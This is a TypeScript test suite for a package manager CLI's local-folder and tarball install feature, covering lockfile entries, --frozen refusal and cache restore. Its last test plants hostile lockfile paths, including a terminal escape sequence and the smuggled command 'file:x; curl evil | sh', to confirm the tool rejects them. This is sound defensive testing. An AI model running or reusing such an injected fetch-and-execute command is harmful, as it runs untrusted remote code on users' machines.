// Installing a folder or a tarball of this machine, to try it before it is published.
import assert from 'node:assert/strict';
import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, afterEach, before, beforeEach, describe, it } from 'node:test';
import {
  createPrimeUser,
  type FaultyProxy,
  manifestText,
  type PrimeUser,
  startFaultyProxy,
  startRegistry,
  type TestRegistry,
} from '@prime-registry/testkit';
import { GOOD_PRIME, writeFiles } from '../../pack/prime-folder.ts';
import { listFiles, readFiles } from '../../project-files.ts';

const NAME = '@acme/web-style';

let registry: TestRegistry;
let proxy: FaultyProxy;
let user: PrimeUser;
before(async () => {
  registry = await startRegistry();
  await registry.author.mustPublish({ name: NAME, version: '1.0.0' });
  await registry.author.mustPublish({ name: '@acme/core', version: '1.2.0' });
});
after(() => registry.stop());
beforeEach(async () => {
  proxy = await startFaultyProxy(registry.baseUrl);
  user = await createPrimeUser({ PRIME_REGISTRY: proxy.baseUrl });
  await writePrime({});
});
afterEach(() => Promise.all([user.remove(), proxy.close()]));

const mine = () => join(user.project, '../mine');
const writePrime = (options: Parameters<typeof manifestText>[0], files: Record<string, string> = {}) =>
  writeFiles(mine(), { ...GOOD_PRIME, 'pack.yaml': manifestText(options), ...files });
const lockText = () => readFile(join(user.project, '.primes/lock.yaml'), 'utf8');
const installed = () => readFiles(join(user.project, '.primes/@acme/web-style'));

async function prime(...args: string[]) {
  const { code, stdout, stderr } = await user.prime(args);
  assert.equal(code, 0, `${stdout}${stderr}`);
  return { stdout, stderr };
}

async function fails(code: number, ...args: string[]): Promise<string> {
  const result = await user.prime(args);
  assert.equal(result.code, code, result.stderr);
  return result.stderr;
}

describe('prime install ./folder', () => {
  it('installs what would be packed, asks no registry, and says that it is for trying', async () => {
    await writeFiles(mine(), { '.primeignore': 'drafts/\n', 'drafts/x.md': '', '.env': 'TOKEN=1' });
    const { stdout, stderr } = await prime('install', '../mine');
    assert.match(stdout, /^\+ @acme\/web-style {2}1\.0\.0 {2}1 atom, \d+ B {2}file:\.\.\/mine\n/);
    assert.match(
      stderr,
      /^@acme\/web-style is from \.\.\/mine, to try it: --frozen refuses it\. 'prime install @acme\/web-style' takes it from a registry\.$/m,
    );
    assert.deepEqual(Object.keys(await installed()), Object.keys(GOOD_PRIME).toSorted());
    assert.match(await lockText(), /\n {4}range: 1\.0\.0\n.*\n {4}registry: "file:\.\.\/mine"\n/s);
    assert.deepEqual(proxy.requests, []);
    assert.equal((await prime('verify')).stdout, '1 Prime intact.\n');
    assert.match((await prime('ls')).stdout, /1\.0\.0 {2}1\.0\.0 {2}file:\.\.\/mine/);
  });

  it('takes the files of the folder again when it is repeated, and only then', async () => {
    await prime('install', '../mine');
    await writeFiles(mine(), { 'README.md': '# Changed\n' });
    assert.match((await prime('install')).stdout, /1 Prime, nothing to do/);
    assert.match((await prime('update')).stdout, /1 Prime, nothing to do/);
    assert.equal((await installed())['README.md'], GOOD_PRIME['README.md']);
    assert.match((await prime('install', '../mine')).stdout, /^~ @acme\/web-style {2}1\.0\.0 → 1\.0\.0/);
    assert.equal((await installed())['README.md'], '# Changed\n');
    assert.deepEqual(proxy.requests, []);
  });

  it('installs a tarball, and says where there is none', async () => {
    await prime('pack', '../mine', '--out', 'x.tar.gz');
    assert.match((await prime('install', 'x.tar.gz')).stdout, /^\+ @acme\/web-style.*file:\.\/x\.tar\.gz/);
    assert.match(await fails(1, 'install', './missing'), /there is no folder or tarball \S+missing/);
    assert.match(await fails(2, 'install', '.'), /there is no pack\.yaml in /);
    await writeFile(join(user.project, 'bad.tar.gz'), 'no tarball');
    assert.match(await fails(2, 'install', './bad.tar.gz'), /not gzip-compressed/);
    await mkdir(join(user.project, 'sub'));
    await writeFiles(join(user.project, 'sub'), GOOD_PRIME);
    assert.match(await fails(3, 'install', 'sub'), /to install the Prime in that folder, write '\.\/sub'/);
  });

  it('replaces the version of a registry, and a name takes that one again', async () => {
    await prime('install', NAME);
    const published = await installed();
    await prime('install', '../mine');
    assert.notDeepEqual(await installed(), published);
    const { stdout, stderr } = await prime('install', NAME);
    assert.match(stdout, /^~ @acme\/web-style {2}1\.0\.0 → 1\.0\.0/);
    assert.equal(stderr, '');
    assert.deepEqual(await installed(), published);
    assert.doesNotMatch(await lockText(), /file:/);
    await prime('install', '--frozen');
  });

  it('stays although SKILL.md requires another version, until it is removed or named', async () => {
    await prime('install', '../mine');
    await writeFile(join(user.project, 'SKILL.md'), `---\nprimes: ["${NAME}@^1.0", "@acme/core"]\n---\n`);
    await writePrime({ version: '2.0.0' });
    await prime('install', '../mine');
    assert.match((await prime('install')).stdout, /2 Primes, nothing to do/);
    assert.match(await lockText(), /version: 2\.0\.0\n/);
    await prime('install', NAME);
    assert.match(await lockText(), /version: 1\.0\.0\n {4}range: \^1\.0\n/);
  });

  it('brings what it requires from the registries, and is what others require', async () => {
    await writePrime({ extra: 'requires: {"@acme/core": ^1.0}' });
    const { stdout } = await prime('install', '../mine');
    assert.match(stdout, /^\+ @acme\/core {7}1\.2\.0.*\n\+ @acme\/web-style/);
    assert.ok(
      proxy.requests.every((request) => !request.includes('web-style')),
      proxy.requests.join(),
    );
    const core = join(user.project, '../core');
    await writeFiles(core, {
      ...GOOD_PRIME,
      'pack.yaml': manifestText({ name: '@acme/core', version: '1.3.0' }),
    });
    assert.match((await prime('install', '../core')).stdout, /^~ @acme\/core {2}1\.2\.0 → 1\.3\.0/);
    await writeFiles(core, { 'pack.yaml': manifestText({ name: '@acme/core', version: '2.0.0' }) });
    const before = await readFiles(join(user.project, '.primes'));
    assert.match(
      await fails(1, 'install', '../core'),
      /@acme\/core 2\.0\.0 is not from a registry, and does not match \^1\.0/,
    );
    assert.deepEqual(await readFiles(join(user.project, '.primes')), before);
  });
});

describe('a Prime of this machine in lock.yaml', () => {
  it('is refused by --frozen, with what to do', async () => {
    await prime('install', '../mine');
    const stderr = await fails(2, 'install', '--frozen');
    assert.match(
      stderr,
      /^error: lock\.yaml has Primes that no registry has, which --frozen does not install\n/,
    );
    assert.match(stderr, /\n {2}@acme\/web-style +was installed from \.\.\/mine\nhelp: publish them/);
    assert.match(await fails(3, 'install', '--frozen', '../mine'), /is of this machine/);
    assert.match(await fails(3, 'install', '--save', '../mine'), /others cannot install '\.\.\/mine'/);
    assert.match(await fails(3, 'install', NAME, '../mine'), /is named twice/);
    assert.match(await fails(3, 'install', '../mine', `${mine()}/`), /is in two of the given places/);
  });

  it('is restored from the cache; without it, no folder is read because lock.yaml names it', async () => {
    await prime('install', '../mine');
    const before = await installed();
    await rm(join(user.project, '.primes/@acme'), { recursive: true });
    assert.match((await prime('install')).stdout, /^= @acme\/web-style/);
    assert.deepEqual(await installed(), before);
    await rm(join(user.project, '.primes/@acme'), { recursive: true });
    await rm(user.cacheFolder, { recursive: true });
    const stderr = await fails(1, 'install');
    assert.match(
      stderr,
      /was installed from \.\.\/mine, and its files are neither in \.primes nor in the cache\n/,
    );
    assert.match(stderr, /\nhelp: run 'prime install \.\.\/mine' again, or 'prime install @acme\/web-style'/);
    assert.deepEqual(proxy.requests, []);
    const left = await listFiles(join(user.project, '.primes'));
    assert.deepEqual(left, ['INDEX.md', 'index.json', 'lock.yaml']);
  });

  it('is not looked up by outdated, and can be removed', async () => {
    await prime('install', '../mine');
    const { stdout, stderr } = await prime('outdated');
    assert.match(stderr, /is from \.\.\/mine: no registry was asked for it/);
    assert.equal(stdout, '0 Primes, all up to date.\n');
    await prime('install', '--follow');
    assert.deepEqual(proxy.requests, []);
    assert.equal((await prime('remove', NAME)).stdout, '- @acme/web-style 1.0.0\n');
  });

  it('has a path that cannot harm a terminal or a shell', async () => {
    await prime('install', '../mine');
    const text = await lockText();
    const lock = (path: string) =>
      writeFile(
        join(user.project, '.primes/lock.yaml'),
        text.replace('"file:../mine"', JSON.stringify(path)),
      );
    for (const path of ['file:', 'file:a\u001b[2Jb', 'file:a\nb', `file:${'x'.repeat(1024)}`]) {
      await lock(path);
      assert.match(await fails(2, 'ls'), /has no path of a folder or a tarball after 'file:'/, path);
    }
    await rm(join(user.project, '.primes/@acme'), { recursive: true });
    await rm(user.cacheFolder, { recursive: true });
    await lock('file:x; curl evil | sh');
    assert.match(await fails(1, 'install'), /help: run 'prime install <folder>' again/);
  });
});
